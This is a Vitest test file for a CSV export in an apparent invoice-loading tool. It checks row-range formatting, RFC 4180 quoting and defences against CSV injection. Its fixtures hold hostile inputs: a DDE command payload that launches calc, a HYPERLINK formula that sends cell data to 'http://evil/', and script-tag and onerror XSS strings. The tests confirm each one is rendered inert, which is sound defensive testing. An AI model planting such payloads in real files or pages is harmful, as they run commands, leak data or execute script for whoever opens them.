import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { CSV_COLUMNS, keepText, defuseCell, formatRows, quoteCell, renderCsv } from '../../src/report/csv.js';
import { hostileReport, mixedReport } from './fixtures.js';

/** Reads our own output back the way a spreadsheet import would (RFC 4180, BOM stripped). */
const readBack = (text: string): Record<string, string>[] => parse(text, { columns: true, bom: true }) as Record<string, string>[];

describe('formatRows', () => {
  it.each([
    [[2], 'b.csv:2'],
    [[2, 3, 4], 'b.csv:2-4'],
    [[2, 3, 7], 'b.csv:2-3,7'],
    [[9, 2, 3], 'b.csv:2-3,9'],
    [[2, 2, 3], 'b.csv:2-3'],
    [[5, 7, 9], 'b.csv:5,7,9'],
  ])('%j → %s', (rows, expected) => {
    expect(formatRows(rows.map((row) => ({ file: 'b.csv', row })))).toBe(expected);
  });

  it('names each file when an invoice spans several', () => {
    expect(formatRows([{ file: 'a.csv', row: 2 }, { file: 'b.csv', row: 9 }, { file: 'a.csv', row: 3 }])).toBe('a.csv:2-3; b.csv:9');
  });
});

describe('defuseCell (OWASP CSV Injection)', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+41 61 000', "'+41 61 000"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['=cmd|\' /C calc\'!A0', "'=cmd|' /C calc'!A0"],
    // a plain number is not a formula, and a quote would turn a credit note's amount into text
    ['-12.50', '-12.50'],
    ['-3', '-3'],
    ['G-24118', 'G-24118'],
    ['', ''],
    ["'already", "'already"],
  ])('%j → %j', (cell, expected) => {
    expect(defuseCell(cell)).toBe(expected);
  });
});

describe('quoteCell (RFC 4180)', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\r', '"cr\r"'],
  ])('%j → %j', (cell, expected) => {
    expect(quoteCell(cell)).toBe(expected);
  });
});

describe('renderCsv', () => {
  it('writes one row per invoice in input order, with a BOM and CRLF line ends', () => {
    const text = renderCsv(mixedReport());
    expect(text.startsWith('\uFEFFrows,vendor,number,')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(1 + 5 + 1);
    const rows = readBack(text);
    expect(Object.keys(rows[0]!)).toEqual([...CSV_COLUMNS]);
    expect(rows.map((r) => r.number)).toEqual(['G-1', 'G-2', 'E-3', 'H-4', 'BW/5']);
  });

  it('fills every column a person needs', () => {
    const [loaded, review, failed, invalid, already] = readBack(renderCsv(mixedReport()));
    expect(loaded).toMatchObject({ rows: 'b.csv:2-4', vendor: 'GOBI', total: '10.00', currency: 'USD', lines: '1', status: 'loaded', alma_id: '="53100000050004146"', workflow_status: 'Waiting to be Sent', alerts: '', error_code: '', message: '' });
    expect(review).toMatchObject({ rows: 'b.csv:5-6,9', status: 'in_review', workflow_status: 'InReview', approval_status: 'PENDING', alerts: 'NOT_LINKED_LINES: Lines not linked' });
    expect(failed).toMatchObject({ status: 'failed', alma_id: '', error_code: '="60237"', tracking_id: 'E01-2106115205-AKV2X-AWAE1', message: 'create: Invoice vendor account not valid' });
    expect(invalid).toMatchObject({ status: 'invalid', error_code: 'total_mismatch', message: 'row 8 total_amount: total_amount 250.00 does not match the lines: 220.00 | row 8 invoice_note: warning: note is long' });
    expect(already).toMatchObject({ status: 'already_loaded', alma_id: '="53100000090004146"' });
  });

  it('defuses formulas and keeps hostile text intact as text', () => {
    const text = renderCsv(hostileReport());
    const rows = readBack(text);
    expect(rows[0]!.vendor).toBe(`'=HYPERLINK("http://evil/?"&A1)`);
    expect(rows[0]!.number).toBe('<script>alert(1)</script>&"\'<img src=x onerror=alert(2)>');
    // no cell of the file starts with a formula character, but our own text constants ="00123"
    for (const row of rows) for (const cell of Object.values(row)) if (!/^="[\d\s.,/:+\-eE]+"$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes only the header for a run without invoices', () => {
    const r = mixedReport();
    r.invoices = [];
    expect(renderCsv(r)).toBe('\uFEFF' + CSV_COLUMNS.join(',') + '\r\n');
  });

  it('identifiers a spreadsheet would turn into numbers or dates are text formulas; amounts stay numbers', () => {
    const r = mixedReport();
    Object.assign(r.invoices[0]!, { number: '00123', vendor: '2025-03-04', total: '-12.50' });
    const [row] = readBack(renderCsv(r));
    expect(row).toMatchObject({ number: '="00123"', vendor: '="2025-03-04"', alma_id: '="53100000050004146"', total: '-12.50' });
    expect(keepText('12E3')).toBe('="12E3"');
    expect(keepText('G-24118')).toBe('G-24118');
    expect(keepText('=1+1')).toBe("'=1+1");
  });
});
